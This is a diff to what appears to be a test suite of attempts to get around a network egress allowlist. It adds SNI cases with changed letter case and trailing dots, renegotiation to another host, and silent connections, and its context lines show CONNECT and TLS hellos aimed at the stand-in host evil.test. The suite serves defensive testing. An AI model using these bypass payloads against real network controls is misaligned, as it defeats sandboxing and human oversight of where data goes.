@@ -49,6 +49,12 @@ ATTACKS: tuple[Attack, ...] = (
         "host-too": f"tls('198.51.100.7', {_EVIL}, 'index.test')",
         "wire-only": "tcp('203.0.113.66', 443, hello(sni(b'index.test'), M))",
     }),
+    *table("T06", "A server name in other letters, or with a dot", {
+        "other-case": f"site('index.test', {_OTHER}, sni='OTHER.TEST')",
+        "other-dot": "tcp(addr('index.test'), 443, hello(sni(b'other.test.'), M))",
+        "dot-then-other-host": f"tls(addr('index.test'), {_OTHER}, 'INDEX.TEST')",
+        "two-dots-at-the-end": "tcp(addr('index.test'), 443, hello(sni(b'index.test..'), M))",
+    }),
     *table("T05", "A proxy's CONNECT", {
         "to-an-address": "tcp('203.0.113.9', 8080, b'CONNECT ' + B + b'.evil.test:443 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')",
         "at-an-allowed-site": "site('index.test', b'CONNECT ' + B + b'.test:443 HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
@@ -76,6 +82,10 @@ ATTACKS: tuple[Attack, ...] = (
         "new-tls": "c = context()\nwith socket.create_connection((addr('index.test'), 443), timeout=20) as r, c.wrap_socket(r, server_hostname='index.test') as s:\n    s.settimeout(3); s.sendall(b'GET /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n'); _answer(s); kept = s.session\n"
                    f"tried.append('resume')\nwith socket.create_connection((addr('index.test'), 443), timeout=20) as r, c.wrap_socket(r, server_hostname='other.test', session=kept) as s:\n    s.sendall({_OTHER}); _answer(s)",
     }, _PARTLY),
+    *table("T12", "Negotiating anew", {
+        "then-another-host": f"anew(addr('index.test'), 'index.test', {_OTHER})",
+        "then-another-path": "anew(addr('index.test'), 'index.test', b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
+    }, _PARTLY),
     *table("T13", "Early data", {
         "extension": "tcp(addr('index.test'), 443, hello(sni(b'index.test') + extension(42, b''), M) + b'\\x17\\3\\3\\0\\x0f' + B)",
         "field": "site('index.test', b'GET /simple/../' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\nEarly-Data: 1\\r\\n\\r\\n')",
@@ -101,6 +111,9 @@ ATTACKS: tuple[Attack, ...] = (
         "hello": "site('index.test', hello(sni(b'evil.test'), M))",
         "octets": "site('index.test', B * 20)",
         "after-a-request": "site('index.test', [b'GET /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', hello(sni(b'evil.test'), M)])",
+    }),
+    *table("T22", "Waiting for a server that speaks first", {
+        name: f"silent(addr('{to}'), {port}, B * 4)" for name, to, port in (("at-tls", "index.test", 443), ("in-clear", "clear.test", 80), ("mail", "index.test", 25), ("shell", "203.0.113.9", 22))
     }),
     *table("T20", "Names that are made up, to have leaves made", {"twenty": "for number in range(20):\n    try: site('index.test', b'x', sni=f'{number}.{M}.test')\n    except OSError: pass"}),
     *table("T23", "Ends before the end", {
